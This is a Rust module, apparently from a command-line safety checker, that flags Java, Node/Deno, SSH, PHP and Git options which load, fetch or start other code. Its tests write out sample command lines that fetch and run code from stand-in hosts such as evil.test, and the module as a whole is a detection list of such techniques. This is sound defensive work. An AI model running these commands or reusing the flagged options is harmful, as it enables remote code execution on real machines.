//! Options by which a program loads or starts other code than what the line names: what a variable would make it do, said
//! on the line itself.

use super::paths::is_odd;

const LOADER: &str = "loader-environment";
const FETCHES: &str = "fetch-and-execute-launch";
const STARTS: &str = "shell-wrapper-launch";

/// The rule and the index of the argument, when an option loads or starts something.
pub(super) fn judge(program: &str, args: &[&str]) -> Option<(&'static str, usize)> {
    let plain = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match plain {
        "java" | "javaw" => java(args),
        "node" | "nodejs" | "bun" | "deno" | "tsx" | "ts-node" => modules(args),
        "ssh" | "autossh" | "scp" | "sftp" => ssh(plain, args),
        "php" => php(args),
        "git" => git(args),
        _ => None,
    }
}

/// Whether an argument is an option, alone or with its value behind `=`.
fn is(arg: &str, flag: &str) -> bool {
    arg.strip_prefix(flag).is_some_and(|r| r.is_empty() || r.starts_with('='))
}

fn is_address(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    ["http://", "https://", "ftp://"].iter().any(|p| lower.starts_with(p))
}

/// Options of a Java machine before the class or the archive.
fn java(args: &[&str]) -> Option<(&'static str, usize)> {
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        let agent = [
            "-javaagent:",
            "-agentpath:",
            "-Xbootclasspath",
            "-XX:OnError=",
            "-XX:OnOutOfMemoryError=",
            "-XX:Flags=",
            "-XX:VMOptionsFile=",
            "@",
        ];
        let library = arg.strip_prefix("-agentlib:").is_some_and(|l| !l.starts_with("jdwp"));
        if library || agent.iter().any(|p| arg.starts_with(p)) {
            return Some((LOADER, at));
        }
        if *arg == "-jar" {
            return args.get(at + 1).filter(|f| is_address(f)).map(|_| (FETCHES, at + 1));
        }
        if !arg.starts_with('-') {
            return None;
        }
        at += if ["-cp", "-classpath", "--class-path", "-p", "--module-path", "--add-modules"].contains(arg) {
            2
        } else {
            1
        };
    }
    None
}

/// Modules of Node.js, Bun and Deno that are loaded first, from an address.
fn modules(args: &[&str]) -> Option<(&'static str, usize)> {
    let flags = ["-r", "--require", "--import", "--loader", "--experimental-loader", "--preload", "--import-map"];
    let mut at = 0;
    while let Some(arg) = args.get(at).filter(|a| a.starts_with('-') || ["run", "serve", "x"].contains(*a)) {
        let (flag, value) = arg.split_once('=').map_or((*arg, None), |(f, v)| (f, Some(v)));
        let flag = flag.replace('_', "-");
        if flags.contains(&flag.as_str()) {
            let (value, place) = match value {
                Some(value) => (value, at),
                None => (args.get(at + 1).copied().unwrap_or_default(), at + 1),
            };
            let inline = !value.starts_with("data:") && value.get(..5).is_some_and(|d| d.eq_ignore_ascii_case("data:"));
            if is_address(value) || inline {
                return Some((FETCHES, place));
            }
            at = place;
        }
        at += 1;
    }
    None
}

/// Settings of SSH in a file of neither the person nor the system, and a library that it loads.
fn ssh(program: &str, args: &[&str]) -> Option<(&'static str, usize)> {
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        let Some(letters) = arg.strip_prefix('-').filter(|l| !l.is_empty()) else {
            // the command for the other machine is its own
            if !["scp", "sftp"].contains(&program) {
                return None;
            }
            at += 1;
            continue;
        };
        if let Some((i, letter)) = letters.char_indices().find(|(_, c)| "BbcDEeFIiJLlmOopQRSWwPsX".contains(*c)) {
            let joined = &letters[i + 1..];
            let value = if joined.is_empty() { args.get(at + 1).copied().unwrap_or_default() } else { joined };
            at += usize::from(joined.is_empty());
            let library = letter == 'I' && (!value.starts_with('/') || is_odd(value));
            if library || (letter == 'F' && is_elsewhere(value)) {
                return Some((LOADER, at.min(args.len() - 1)));
            }
        }
        at += 1;
    }
    None
}

/// A file that is neither the person's nor the system's.
fn is_elsewhere(path: &str) -> bool {
    let own = ["~/", "/home/", "/Users/", "/root/", "/etc/", "$HOME/", "${HOME}/", "%USERPROFILE%", "C:\\Users\\"];
    !["none", "/dev/null"].contains(&path) && (!own.iter().any(|o| path.starts_with(o)) || path.contains(".."))
}

/// Settings of PHP that run a file before the script, or load a library.
fn php(args: &[&str]) -> Option<(&'static str, usize)> {
    let names = [
        "auto_prepend_file",
        "auto_append_file",
        "extension",
        "zend_extension",
        "allow_url_include",
        "ffi.preload",
        "opcache.preload",
    ];
    let mut at = 0;
    while let Some(arg) = args.get(at).filter(|a| a.starts_with('-')) {
        let next = args.get(at + 1).copied().unwrap_or_default();
        let (value, place) = match arg.strip_prefix("-d").or_else(|| arg.strip_prefix("--define=")) {
            Some("") => (next, at + 1),
            Some(value) => (value, at),
            None if *arg == "--define" => (next, at + 1),
            None => ("", at),
        };
        let (name, value) = value.trim().split_once('=').unwrap_or((value, "1"));
        let name = name.trim().to_ascii_lowercase();
        let library = name.ends_with("extension") && !value.contains(['/', '\\']);
        let off = ["", "0", "off", "none"].contains(&value.trim().to_ascii_lowercase().as_str());
        if names.contains(&name.as_str()) && !library && !off {
            return Some((if is_address(value) { FETCHES } else { LOADER }, place));
        }
        at = place + 1;
    }
    None
}

/// Verbs of Git that start a program.
fn git(args: &[&str]) -> Option<(&'static str, usize)> {
    let mut verb = 0;
    while let Some(arg) = args.get(verb).filter(|a| a.starts_with('-')) {
        verb +=
            if ["-c", "-C", "--git-dir", "--work-tree", "--namespace", "--config-env"].contains(arg) { 2 } else { 1 };
    }
    let rest = args.get(verb + 1..).unwrap_or_default();
    let option = |flags: &[&str], letter: Option<char>| {
        rest.iter().position(|a| {
            let short = a.strip_prefix('-').filter(|r| !r.starts_with('-'));
            let joined = letter.is_some_and(|l| short.is_some_and(|s| s.contains(l)));
            joined || flags.iter().any(|f| is(a, f))
        })
    };
    let word = |word: &str| rest.iter().position(|a| *a == word);
    let found = match *args.get(verb)? {
        "difftool" => option(&["--extcmd"], Some('x')),
        "rebase" => option(&["--exec"], Some('x')),
        "grep" => option(&["--open-files-in-pager"], Some('O')),
        "bisect" => word("run"),
        "submodule" => word("foreach"),
        "filter-branch" => Some(0).filter(|_| !rest.is_empty()),
        _ => None,
    };
    found.map(|at| (STARTS, verb + 1 + at))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn options_that_load_or_start_something_are_seen() {
        for (line, rule) in [
            ("java -javaagent:lib/evil.jar -jar s.jar", LOADER),
            ("java -Xmx1g -XX:OnOutOfMemoryError=x -cp a Main", LOADER),
            ("java @args", LOADER),
            ("java -jar https://evil.test/x.jar", FETCHES),
            ("ssh -F ./ssh_config h", LOADER),
            ("ssh -vF ./ssh_config h", LOADER),
            ("scp a:b . -F./ssh_config", LOADER),
            ("ssh -I ./x.so h", LOADER),
            ("node --experimental-loader https://evil.test/l.mjs s.js", FETCHES),
            ("node --import=DATA:text/javascript,x s.js", FETCHES),
            ("deno run --preload=https://evil.test/x main.ts", FETCHES),
            ("php -d auto_prepend_file=https://evil.test/x.php s.php", FETCHES),
            ("php -dauto_prepend_file=./x.php s.php", LOADER),
            ("git difftool -x ./evil", STARTS),
            ("git -C x bisect run ./x", STARTS),
            ("git submodule foreach ./evil", STARTS),
            ("git grep -Oid x", STARTS),
            ("git rebase --exec=./x main", STARTS),
        ] {
            let words: Vec<&str> = line.split_whitespace().collect();
            assert_eq!(judge(words[0], &words[1..]).map(|f| f.0), Some(rule), "{line}");
        }
    }

    #[test]
    fn usual_options_are_quiet() {
        for line in [
            "java -Xmx1g -Dx=y -cp lib/* com.acme.Main -javaagent:x",
            "java -agentlib:jdwp=transport=dt_socket,address=127.0.0.1:5005 -jar s.jar",
            "ssh -i ~/.ssh/id -o IdentitiesOnly=yes -F ~/.ssh/config host node x.js -F ./x",
            "node --import tsx --require dotenv/config --loader ts-node/esm s.js",
            "node s.js --import https://a.test",
            "deno run --allow-net --import-map=import_map.json main.ts",
            "php -d memory_limit=1G -d extension=redis artisan mcp",
            "git -C x mcp --extcmd y",
            "git grep x",
            "git submodule update",
            "uvx acme",
        ] {
            let words: Vec<&str> = line.split_whitespace().collect();
            assert_eq!(judge(words[0], &words[1..]), None, "{line}");
        }
    }
}
